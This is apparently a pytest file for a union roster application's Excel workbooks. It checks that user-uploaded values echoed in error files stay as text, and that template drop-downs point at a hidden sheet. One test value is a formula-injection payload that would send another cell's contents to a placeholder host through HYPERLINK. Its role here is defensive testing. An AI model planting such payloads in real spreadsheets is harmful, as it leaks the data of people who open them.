"""The roster's own workbooks: the template and the error rows written back to the union."""

import io

from openpyxl import load_workbook

from gonghui.members.roster_columns import FIELDS
from gonghui.members.roster_files import error_workbook, template_workbook

FORMULA_NAME = '=HYPERLINK("http://e.x/?"&E2,"x")'


def test_an_uploaded_cell_echoed_in_the_error_file_is_text_not_a_formula():
    data = error_workbook([(7, {"name": FORMULA_NAME, "id_number": "-1"}, ["姓名无效"])])
    sheet = load_workbook(io.BytesIO(data)).active
    name = sheet.cell(row=2, column=FIELDS.index("name") + 1)
    number = sheet.cell(row=2, column=FIELDS.index("id_number") + 1)
    assert name.data_type != "f" and name.value == FORMULA_NAME
    assert number.data_type != "f" and number.value == "-1"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_the_templates_drop_down_lists_still_point_at_the_hidden_sheet():
    book = load_workbook(io.BytesIO(template_workbook()))
    sheet = book.worksheets[0]
    rules = sheet.data_validations.dataValidation
    assert rules and all(r.type == "list" and r.formula1.startswith("'") for r in rules)
    assert book.worksheets[1].sheet_state == "hidden"
